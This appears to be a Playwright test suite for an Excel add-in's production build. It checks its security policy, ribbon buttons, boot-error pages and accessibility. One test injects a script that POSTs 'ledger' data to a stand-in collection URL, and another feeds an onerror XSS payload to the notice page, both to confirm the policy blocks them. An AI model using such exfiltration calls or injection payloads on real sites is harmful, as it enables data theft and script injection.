/** The production build as a host serves it: under its own policy, asking nobody else for anything, and telling when something is in the way. */
import AxeBuilder from "@axe-core/playwright";
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import type { Browser } from "playwright-core";
import { localeOf } from "../../src/locales/locale";
import { boot as zhBoot } from "../../src/locales/zh-CN/boot";
import { BUILD_WITHIN_MS, OFFICE_CDN, excel, openSite, pictureOf, serveSite, type Opened, type OpenOptions, type Site } from "./support/site";
import { openBrowser } from "./support/workbench";

const zh = localeOf("zh-CN");

let browser: Browser;
let site: Site;
let opened: Opened;
beforeAll(async () => {
  browser = await openBrowser();
  site = await serveSite("cdn");
}, BUILD_WITHIN_MS);
afterAll(async () => {
  await browser?.close();
  await site?.close();
});
afterEach(() => opened?.context.close());

const open = async (options?: OpenOptions) => (opened = await openSite(browser, site, options));
const paneDraws = ({ page }: Opened) => page.getByRole("button", { name: zh.shell.review.start, exact: true }).waitFor();

describe("in an Excel that can work with us", () => {
  test("the whole job under the page's own policy, and no request but for its own files and Office.js", async () => {
    const { page, outside, violations, errors } = await open();
    await paneDraws(opened);
    await page.getByRole("button", { name: zh.shell.review.start, exact: true }).click();
    await page.getByRole("list", { name: zh.pane.result.list }).waitFor();
    await pictureOf(page, "production-reviewed-zh");
    expect(outside).toEqual([OFFICE_CDN]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });

  test("files chosen on the office's page are read by the worker of the build, under the same policy", async () => {
    const { page, outside, violations, errors } = await open();
    await paneDraws(opened);
    const scripts: string[] = [];
    page.on("worker", (worker) => scripts.push(path.posix.basename(worker.url())));
    await page.getByRole("tab", { name: zh.shell.situations.office }).click();
    const samples = path.join(__dirname, "../../samples");
    await page.locator("input[data-choose=files]").setInputFiles(["区农委.xlsx", "区交通运输局.xls"].map((name) => path.join(samples, name)));
    await page.getByText(zh.office.read.done("2", "2")).waitFor();
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((name) => !/^files\.[0-9a-f]+\.js$/.test(name))).toEqual([]);
    await page.getByRole("button", { name: zh.pane.action.compile, exact: true }).click();
    await page.getByRole("heading", { name: zh.office.preview.heading }).waitFor();
    await pictureOf(page, "production-office-zh");
    expect(outside).toEqual([OFFICE_CDN]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });

  test("what a script brought into the page would do is refused: the policy is really on", async () => {
    const { page, violations } = await open();
    await paneDraws(opened);
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.broughtIn = true";
      document.head.append(script);
      const sent = await fetch("https://example.org/collect", { method: "POST", body: "ledger" }).then(
        () => "sent",
        () => "refused",
      );
      return { broughtIn: "broughtIn" in window, sent };
    });
    expect(ran).toEqual({ broughtIn: false, sent: "refused" });
    expect(violations.join("\n")).toMatch(/script-src/);
    expect(violations.join("\n")).toMatch(/connect-src/);
  });

  test("each ribbon button works without the pane having been asked for, and ends with words or the summary in front", async () => {
    const { page } = await open();
    await paneDraws(opened);
    await excel.press(page, "reviewCommand");
    expect((await excel.state(page)).panes).toBe(1);
    await page.getByText(/核验/).first().waitFor();
    await pictureOf(page, "production-ribbon-review-zh");
    await excel.press(page, "fillCommand");
    expect((await excel.state(page)).panes).toBe(2);
    const before = (await excel.state(page)).sheets.length;
    await excel.press(page, "compileCommand");
    const after = await excel.state(page);
    expect(after.sheets.length).toBeGreaterThan(before);
    expect(after.panes).toBe(2);
    await excel.press(page, "clearCommand");
    expect((await excel.state(page)).panes).toBe(3);
    expect(Object.values((await excel.state(page)).buttons)).toEqual([true, true, true, true]);
    expect(opened.violations).toEqual([]);
  });

  test("a button pressed before our bundle has come is served once it is there", async () => {
    const { page } = await open({ until: "commit", slow: /taskpane\.[0-9a-f]+\.js/ });
    await page.waitForFunction(() => "excelInThePage" in window);
    const pressed = excel.press(page, "fillCommand");
    expect((await excel.state(page)).panes).toBe(0);
    opened.letCome();
    await pressed;
    expect((await excel.state(page)).panes).toBe(1);
  });

  test("where Excel does not open the pane, the small window says it as text, under a policy of its own", async () => {
    const { page, violations } = await open({ opensPane: false });
    await paneDraws(opened);
    await excel.press(page, "clearCommand");
    const { windows } = await excel.state(page);
    expect(windows).toHaveLength(1);
    await page.goto(windows[0]!);
    await page.getByText(zh.pane.ribbon.clear(0)).waitFor();
    await pictureOf(page, "production-notice-zh");
    await page.goto(`${site.home}notice.html#${encodeURIComponent(JSON.stringify({ lang: "zh-CN", title: "<b>x</b>", lines: ["<img src=x onerror=alert(1)>"] }))}`);
    await page.reload();
    expect(await page.locator("h1").innerText()).toBe("<b>x</b>");
    expect(await page.locator("img").count()).toBe(0);
    expect(violations).toEqual([]);
  });
});

describe("something is in the way", () => {
  const TRIDENT = "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko";
  const OLD_EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19041";

  test.each<[string, keyof typeof zhBoot.trouble, OpenOptions]>([
    ["Office.js is blocked", "no-office", { office: "blocked" }],
    ["a sign-in page comes instead of Office.js", "no-office", { office: "portal" }],
    ["Excel is older than ExcelApi 1.14", "old-excel", { excelApi: "1.13" }],
    ["the engine of Internet Explorer", "old-engine", { agent: TRIDENT }],
    ["the engine of the old Edge", "old-engine", { agent: OLD_EDGE }],
    ["an engine without what we use", "old-engine", { first: "delete Object.hasOwn" }],
    ["our own bundle does not come", "no-pane", { missing: /taskpane\.[0-9a-f]+\.js/ }],
  ])("%s: the page says so in both languages, what to do, and gives details", async (_, reason, options) => {
    const { page, violations } = await open(options);
    const { title, next } = zhBoot.trouble[reason];
    await page.getByText(title).waitFor();
    expect(await page.locator(`[data-boot=${reason}]`).innerText()).toContain(next("appsforoffice.microsoft.com"));
    expect(await page.locator("[data-boot]:not([hidden])").count()).toBe(1);
    expect(await page.locator(`[data-boot=${reason}] [lang=en]`).innerText()).toMatch(/\.$/);
    const details = await page.locator("#boot-details").inputValue();
    expect(details).toContain(`reason: ${reason}`);
    expect(details).toContain(`office.js: ${OFFICE_CDN}`);
    expect(details).not.toContain("农");
    await page.getByRole("button", { name: zhBoot.copy }).click();
    await page.getByText(zhBoot.copied).or(page.getByText(zhBoot.copyByHand)).and(page.locator(":not([hidden])")).first().waitFor();
    expect(violations).toEqual([]);
    const axe = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]).analyze();
    expect(axe.violations.map(({ id }) => id)).toEqual([]);
    await pictureOf(page, `boot-${reason}`);
  });

  test("in the dark and at 320 px it reads as well", async () => {
    const { page } = await open({ excelApi: "1.9", colors: "dark", width: 320 });
    await page.getByText(zhBoot.trouble["old-excel"].title).waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    const axe = await new AxeBuilder({ page }).withTags(["wcag2aa"]).analyze();
    expect(axe.violations.map(({ id }) => id)).toEqual([]);
    await pictureOf(page, "boot-old-excel-dark-320");
  });

  test("a ribbon button pressed then is given back, and the pane opens to say why", async () => {
    const { page } = await open({ missing: /taskpane\.[0-9a-f]+\.js/ });
    await page.getByText(zhBoot.trouble["no-pane"].title).waitFor();
    await excel.press(page, "reviewCommand");
    expect((await excel.state(page)).panes).toBe(1);
  });

  test("the bundle with the actions does not come: the button says so in the pane", async () => {
    const { page } = await open({ missing: /program\.[0-9a-f]+\.js/ });
    await paneDraws(opened);
    await excel.press(page, "fillCommand");
    expect((await excel.state(page)).panes).toBe(1);
    await page.getByText(zh.pane.problem.title.fill).waitFor();
  });
});

describe("Office.js from copied files", () => {
  let local: Site;
  beforeAll(async () => {
    local = await serveSite("local");
  }, BUILD_WITHIN_MS);
  afterAll(() => local?.close());

  test("the real loader in a plain browser: the page says that it belongs into Excel, and the loader's own reports stay at home", async () => {
    opened = await openSite(browser, local, { office: "real" });
    const { page, outside, violations } = opened;
    await page.getByText(zhBoot.trouble["not-excel"].title).waitFor();
    // Outside Office the loader opens a hidden page of Microsoft's telemetry after a while; the policy does not let it.
    for (let waited = 0; waited < 100 && !violations.some((each) => /telemetryservice/.test(each)); waited += 1) await page.waitForTimeout(200);
    expect(violations.filter((each) => /frame-src/.test(each)).join("\n")).toContain("telemetryservice");
    expect(violations.filter((each) => !/frame-src|inline style|style-src/.test(each))).toEqual([]);
    expect(outside).toEqual([]);
    await pictureOf(page, "boot-not-excel");
    expect(existsSync(path.join(local.folder, "office/LICENSE.md"))).toBe(true);
    expect(readFileSync(path.join(local.folder, "office/office.js"))).toEqual(readFileSync(path.join(__dirname, "../../node_modules/@microsoft/office-js/dist/office.js")));
  });
});
